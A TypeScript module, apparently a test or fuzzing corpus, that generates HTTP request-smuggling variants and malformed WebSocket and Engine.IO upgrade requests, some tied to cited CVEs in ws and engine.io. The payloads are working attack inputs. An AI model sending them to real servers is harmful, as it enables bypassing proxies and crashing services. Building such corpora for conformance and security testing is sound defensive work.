/** Requests as bytes, by what is wrong with them. */
export type RequestShapes = Readonly<Record<string, string>>;

/**
 * Requests whose end can be found in two ways, in front of a second request. If a reverse proxy finds the one and the server
 * the other, the second request is one that the proxy has not seen (request smuggling, RFC 9112 §11.2).
 *
 * @param path of the first request
 * @param smuggled the second request
 */
export function smugglingRequests(path: string, smuggled: string): RequestShapes {
  const post = (headers: string, body = smuggled): string =>
    `POST ${path} HTTP/1.1\r\nHost: x\r\n${headers}\r\n\r\n${body}`;
  const { length } = smuggled;
  const end = '0\r\n\r\n';
  const chunked = (body: string, headers = 'Transfer-Encoding: chunked'): string =>
    post(headers, `${body}${smuggled}`);
  return {
    'Content-Length and Transfer-Encoding': chunked(
      end,
      `Content-Length: ${end.length + length}\r\nTransfer-Encoding: chunked`,
    ),
    'Transfer-Encoding and Content-Length': post(
      'Transfer-Encoding: chunked\r\nContent-Length: 4',
      `${length.toString(16)}\r\n${smuggled}\r\n${end}`,
    ),
    'two Content-Length': post(`Content-Length: 0\r\nContent-Length: ${length}`),
    'a list as Content-Length': post(`Content-Length: 0, ${length}`),
    'a Content-Length with a sign': post(`Content-Length: +${length}`),
    'a negative Content-Length': post('Content-Length: -1'),
    'a hexadecimal Content-Length': post(`Content-Length: 0x${length.toString(16)}`),
    'a Content-Length past all integers': post('Content-Length: 99999999999999999999999'),
    'a space before the colon of Content-Length': post(`Content-Length : ${length}`),
    'a space before the colon of Transfer-Encoding': chunked(end, 'Transfer-Encoding : chunked'),
    'Transfer-Encoding identity': post(`Transfer-Encoding: identity\r\nContent-Length: ${length}`),
    'chunked is not the last encoding': chunked(end, 'Transfer-Encoding: chunked, identity'),
    'an unknown encoding': chunked(end, 'Transfer-Encoding: xchunked'),
    'two Transfer-Encoding': chunked(end, 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity'),
    'a control character before chunked': chunked(end, 'Transfer-Encoding: \x0bchunked'),
    'chunked in HTTP/1.0': chunked(end, 'Connection: keep-alive\r\nTransfer-Encoding: chunked').replace(
      'HTTP/1.1',
      'HTTP/1.0',
    ),
    'a folded Transfer-Encoding': chunked(
      end,
      `Transfer-Encoding:\r\n chunked\r\nContent-Length: ${end.length + length}`,
    ),
    'a folded line that looks like a header': post(`X: a\r\n Content-Length: ${length}`),
    'a folded Content-Length': post('Content-Length: 1\r\n 0'),
    'lines that end with LF': post('Content-Length: 0').replaceAll('\r\n', '\n'),
    'one header that ends with LF': post(`X: a\nContent-Length: ${length}`),
    'one header that ends with CR': post(`X: a\rContent-Length: ${length}`),
    'NUL in a header': post('X: a\0b'),
    'LF in the path': post('').replace(path, `${path}\nx`),
    'a chunk extension that ends with LF': chunked(`1;a\nxx\r\n${end}`),
    'chunks that end with LF': chunked('1\nx\n0\n\n'),
    'a chunk size with 0x': chunked(`0x1\r\nx\r\n${end}`),
    'a negative chunk size': chunked(`-1\r\nx\r\n${end}`),
    'a chunk size past all integers': chunked(`10000000000000001\r\nx\r\n${end}`),
    'a chunk longer than its size': chunked(`1\r\nxx\r\n${end}`),
    'a chunk extension of 40 kB': chunked(`1;${'a'.repeat(40_000)}\r\nx\r\n${end}`),
    'a Content-Length in the trailer': chunked(`0\r\nContent-Length: ${length}\r\n\r\n`),
    'the preface of HTTP/2': `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${smuggled}`,
    'another version of HTTP': post('Content-Length: 0').replace('HTTP/1.1', 'HTTP/1.9'),
    'no Host': post('Content-Length: 0').replace('Host: x\r\n', ''),
  };
}

/**
 * Requests for a WebSocket that have made servers throw, or work for long. The published holes: `ws` with more headers than
 * the maximum (CVE-2024-37890), a long `Sec-WebSocket-Protocol` (CVE-2021-32640) and extensions named as properties of objects;
 * `engine.io` with transports named so (CVE-2023-31125), and with bytes or a RST behind a rejected upgrade (CVE-2022-21676,
 * CVE-2022-41940).
 *
 * @param path of the socket, with a slash at its end
 */
export function upgradeRequests(path: string): RequestShapes {
  const upgrade = (
    headers: string,
    { query = 'EIO=4&transport=websocket', key = 'AAAAAAAAAAAAAAAAAAAAAA==', version = '13' } = {},
  ): string =>
    `GET ${path}?${query} HTTP/1.1\r\nHost: x\r\nOrigin: https://attacker.example\r\nSec-WebSocket-Version: ${version}\r\n` +
    `Sec-WebSocket-Key: ${key}\r\n${headers}Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n`;
  const query = (text: string): string => upgrade('', { query: text });
  const many = (count: number): string =>
    Array.from({ length: count }, (_, index) => `X${index}: x\r\n`).join('');
  const invalidFrames = '\x70\x80\xff\xff'.repeat(20);
  return {
    'more headers than the maximum': upgrade(many(1_500)),
    'as many headers as a server keeps, before those of the upgrade': upgrade(many(1_995)),
    'a protocol with many spaces': upgrade(`Sec-WebSocket-Protocol: b${' '.repeat(12_000)}x\r\n`),
    'many protocols': upgrade(`Sec-WebSocket-Protocol: ${'a, '.repeat(4_000)}a\r\n`),
    'a protocol beyond ASCII': upgrade('Sec-WebSocket-Protocol: \xff\xfe\r\n'),
    'extensions named as properties of objects': upgrade(
      'Sec-WebSocket-Extensions: constructor; __proto__; toString=hasOwnProperty, __proto__\r\n',
    ),
    'many extensions': upgrade(`Sec-WebSocket-Extensions: ${'permessage-deflate; a="b", '.repeat(500)}x\r\n`),
    'parameters of permessage-deflate that are none': upgrade(
      'Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits=99; server_max_window_bits=__proto__\r\n',
    ),
    'a key that is too short': upgrade('', { key: 'AA==' }),
    'a long key': upgrade('', { key: 'A'.repeat(10_000) }),
    'a version that is not supported': upgrade('', { version: '99' }),
    'a version that is a property of objects': upgrade('', { version: '__proto__' }),
    'a transport named __proto__': query('EIO=4&transport=__proto__'),
    'a transport named constructor': query('EIO=4&transport=constructor'),
    'a transport that is offered nowhere': query('EIO=4&transport=webtransport'),
    'no transport': query('EIO=4'),
    'two transports': query('EIO=4&transport=polling&transport=websocket'),
    'a transport that is an array': query('EIO=4&transport[]=websocket&transport[__proto__]=x'),
    'an old version of Engine.IO': query('EIO=3&transport=websocket'),
    'a session that is unknown': query('EIO=4&transport=websocket&sid=AAAAAAAAAAAAAAAAAAAA'),
    'a session named __proto__': query('EIO=4&transport=websocket&sid=__proto__'),
    'a session named constructor': query('EIO=4&transport=websocket&sid=constructor'),
    'escapes that are none': query('EIO=4&transport=websocket&%=%zz&%ff=%c0%af&join=%'),
    'an address that is no URL': upgrade('').replace(path, `//[${path}`),
    'a rejected upgrade, and frames behind it': `${query('EIO=3&transport=websocket')}${invalidFrames}`,
    'an unknown session, and frames behind it': `${query('EIO=4&transport=websocket&sid=x')}${invalidFrames}`,
    'frames that are invalid behind the upgrade': `${upgrade('')}${invalidFrames}`,
    'a second upgrade behind the upgrade': `${upgrade('')}${upgrade('')}`,
    'a body': upgrade('Content-Length: 40\r\n') + upgrade(''),
  };
}
